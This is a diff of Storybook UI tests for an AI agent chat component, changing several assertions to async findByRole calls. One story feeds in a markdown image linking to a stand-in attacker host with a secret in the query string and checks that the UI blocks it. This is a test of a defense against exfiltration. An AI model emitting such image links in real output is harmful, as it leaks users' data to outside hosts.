@@ -75,7 +75,7 @@ export const BlockedImage: Story = {
   args: { messages: reply([{ type: 'text', text: 'Here is your chart: ![Sales chart](https://attacker.example/collect?q=secret)' }]) },
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
-    await expect(canvas.getByRole('button', { name: /Image from attacker\.example/ })).toBeVisible();
+    await expect(await canvas.findByRole('button', { name: /Image from attacker\.example/ })).toBeVisible();
     await expect(canvasElement.querySelector('[data-xagent-markdown] img')).toBeNull();
   },
 };
@@ -85,7 +85,7 @@ export const ToolCallsCollapsed: Story = {
   args: { messages: reply([...Array.from({ length: 20 }, (_, i) => lookup(i)), { type: 'text', text: 'All 20 orders are on their way.' }]) },
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
-    const toggle = canvas.getByRole('button', { name: 'Used lookupOrder 20 times' });
+    const toggle = await canvas.findByRole('button', { name: 'Used lookupOrder 20 times' });
     await expect(toggle.getBoundingClientRect().height).toBeGreaterThanOrEqual(24);
     await userEvent.click(toggle);
     await expect(toggle).toHaveAttribute('aria-expanded', 'true');
@@ -108,7 +108,7 @@ export const McpResult: Story = {
     ]),
   },
   play: async ({ canvasElement }) => {
-    const card = within(canvasElement).getByRole('group', { name: 'github.search_issues finished' });
+    const card = await within(canvasElement).findByRole('group', { name: 'github.search_issues finished' });
     await expect(card).toHaveTextContent('Found 3 issues');
     await userEvent.click(within(card).getByText('Show full result'));
     await expect(within(card).getByText('Hide full result')).toBeVisible();
@@ -135,7 +135,7 @@ const compacted = (): AgentUIMessage[] => [
 export const CompactionMarker: Story = {
   args: { messages: compacted() },
   play: async ({ canvasElement }) => {
-    const toggle = within(canvasElement).getByRole('button', { name: 'Earlier messages were summarized' });
+    const toggle = await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' });
     await expect(toggle).toHaveAttribute('aria-expanded', 'false');
     await userEvent.click(toggle);
     await expect(toggle).toHaveAttribute('aria-expanded', 'true');
@@ -148,7 +148,7 @@ export const CompactionMarkerDark: Story = {
   args: { appearance: { dark: true }, messages: compacted() },
   decorators: [darkPage],
   play: async ({ canvasElement }) => {
-    await userEvent.click(within(canvasElement).getByRole('button', { name: 'Earlier messages were summarized' }));
+    await userEvent.click(await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' }));
     await expect(within(canvasElement).getByText(/flights booked for Friday/)).toBeVisible();
   },
 };
@@ -164,7 +164,7 @@ export const ApprovalDark: Story = {
   },
   decorators: [darkPage],
   play: async ({ canvasElement }) => {
-    await expect(within(canvasElement).getByRole('button', { name: 'Reject' })).toBeVisible();
+    await expect(await within(canvasElement).findByRole('button', { name: 'Reject' })).toBeVisible();
   },
 };
 
